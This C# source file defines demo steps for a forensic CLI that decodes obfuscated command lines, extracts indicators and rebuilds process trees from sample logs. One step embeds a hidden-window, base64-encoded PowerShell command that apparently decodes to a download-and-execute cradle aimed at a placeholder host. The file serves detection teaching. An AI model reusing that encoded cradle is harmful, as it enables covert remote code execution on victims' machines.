namespace Quarry.Cli.Verbs;

/// <summary>A step of the tour: one command on the samples.</summary>
/// <param name="Title">The question that it answers.</param>
/// <param name="Explanation">What one sees; lines fit a terminal of a hundred columns.</param>
/// <param name="Arguments">What stands behind the command's name.</param>
internal sealed record DemoStep(string Title, string Explanation, string[] Arguments)
{
    /// <summary>Stands for the command line in row <see cref="PhishedRow"/> of <see cref="ProcessEvents"/>.</summary>
    public const string PhishedCommand = "(the CommandLine of row 1300)";

    /// <summary>The row of the command that Word started.</summary>
    public const int PhishedRow = 1300;

    /// <summary>The sample it stands in.</summary>
    public const string ProcessEvents = "windows-process-events.csv";

    /// <summary>Whether the step prints text as it is, not rows.</summary>
    public bool IsText => Arguments.Contains("--annotate");

    /// <summary>Whether the step makes a file for the next one and shows nothing.</summary>
    public bool IsSilent => Arguments.Contains("-o");

    /// <summary>How the step is shown on a terminal.</summary>
    public string[] TerminalFormat => IsText || IsSilent ? [] : ["--format", Arguments[0] == "tree" || Arguments.Contains("--signature") ? "text" : "table"];

    /// <summary>The step for a page, which has room for all rows and draws every point.</summary>
    public DemoStep ForPage => this with { Arguments = [.. Arguments.Where((a, i) => !IsForTerminal(a) && (i == 0 || !IsForTerminal(Arguments[i - 1])))] };

    private bool IsForTerminal(string argument) => argument == "--limit" || (argument == "--view" && Arguments[0] == "anomalies");

    /// <summary>The tour.</summary>
    public static IReadOnlyList<DemoStep> All { get; } =
    [
        new(
            "What is hidden in the command lines?",
            "On 4 March somebody opened an invoice. decode finds the encoded PowerShell among 3,165 process\n"
            + "starts, and what is packed inside it: UTF-16 in base64, gzip in that, base64 in that again.\n"
            + "Layer 1.1.1 is the download.",
            ["decode", "samples/windows-process-events.csv", "--column", "CommandLine", "--limit", "12"]),
        new(
            "The same for one string",
            "--annotate prints the text with each encoded part replaced by what it holds.",
            [
                "decode", "--annotate", "--text",
                "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYwBkAG4ALQBhAHMAcwBlAHQAcwAuAGUAeABhAG0AcABsAGUALgBuAGUAdAAvAGEAJwApAA==",
            ]),
        new(
            "Which indicators are there?",
            "iocs takes addresses, names, URLs, hashes and mail addresses that are right, not merely shaped so;\n"
            + "defanged ones too. The time and the version number are none.",
            [
                "iocs", "--text",
                "beacon to hxxps[:]//telemetry[.]example[.]org/api and 203[.]0[.]113[.]58, seen 12:34:56 on Microsoft.NET 4.8.9037.0, mail soc@example.com",
            ]),
        new(
            "And inside what is encoded?",
            "--decode looks into every decoded layer too and says in which one an indicator was. The download's\n"
            + "URL is in none of the command lines as they were logged; it is in layer 1.1.1 of the one that Word\n"
            + "started (row 1300).",
            ["iocs", "--decode", "--text", PhishedCommand]),
        new(
            "Which sites hide in what is encoded?",
            "query runs KQL over files, and the analyses are plugins in it: the sites of all addresses, and how\n"
            + "often each stands only in what was encoded.",
            [
                "query",
                "Event | evaluate iocs(CommandLine, decode=true) | where IoCType == \"url\" | summarize Addresses = dcount(Observable), Hidden = countif(isnotempty(Reference)) by Site = tostring(parse_url(Observable).Host) | where Hidden > 0",
                "--table", "Event=samples/windows-process-events.csv",
            ]),
        new(
            "What did the document start?",
            "tree rebuilds who started whom, on each host by itself, although process ids are used again. Below\n"
            + "Word's process stands what the invoice did that morning.",
            ["tree", "samples/windows-process-events.csv", "--root", "0x1544", "--depth", "3", "--limit", "10"]),
        new(
            "When did data leave?",
            "anomalies takes the daily and the weekly season and the growth out of eight weeks of traffic. The\n"
            + "night of 5 March stands out: 03:00 and 04:00, when the archive was uploaded.",
            ["anomalies", "samples/hourly-traffic.csv", "--period", "24,168", "--robust", "--view", "anomalies"]),
        new(
            "Which records are unlike the others?",
            "signatures groups rows by which of their columns are filled. A sign-in and an inbox rule that nobody\n"
            + "else's records look like stand on top of the rare ones.",
            ["signatures", "samples/office-activity.jsonl", "--view", "rare", "--limit", "5"]),
        new(
            "What is in the commonest of them?",
            "--signature shows one: what it always holds, what no other holds, and the KQL that selects it.",
            ["signatures", "samples/office-activity.jsonl", "--signature", "1"]),
        new(
            "And how are the operations distributed?",
            "--feature counts the values of one column, within a signature or in the whole table.",
            ["signatures", "samples/office-activity.jsonl", "--feature", "Operation"]),
        new(
            "Raw syslog as a table",
            "parse reads lines of either RFC, and those of no RFC, into the columns of Sentinel's Syslog table.",
            ["parse", "samples/syslog.log", "--limit", "6"]),
        new(
            "Who was logged in, and did what?",
            "sessions pairs what was opened with what was closed, by host, process and user. --risky shows the\n"
            + "risky commands of each; the session of deploy was never closed.",
            ["sessions", "samples/syslog.log", "--users", "deploy", "--risky"]),
        new(
            "Which commands are risky, and which came in a burst?",
            "risky applies its rules also to what is encoded in a command (Layer).",
            ["risky", "samples/syslog.log"]),
        new(
            "Twelve commands in three seconds",
            "bursts finds what no hand types.",
            ["bursts", "samples/syslog.log"]),
        new(
            "The same intruder in the audit log",
            "parse joins the records of auditd into events, by time and serial, with every argument of every\n"
            + "command.",
            ["parse", "samples/audit.log", "-o", "samples/audit-events.jsonl"]),
        new(
            "From the shell to what it fetched",
            "tree reads those events: below the intruder's shell stands all that he started.",
            ["tree", "samples/audit-events.jsonl", "--root", "15483"]),
        new(
            "Any text will do",
            "as input for iocs and decode; a glob, a .gz or .zst file or a pipe as well.",
            ["iocs", "samples/syslog.log", "--types", "url,email", "--limit", "12"]),
    ];
}
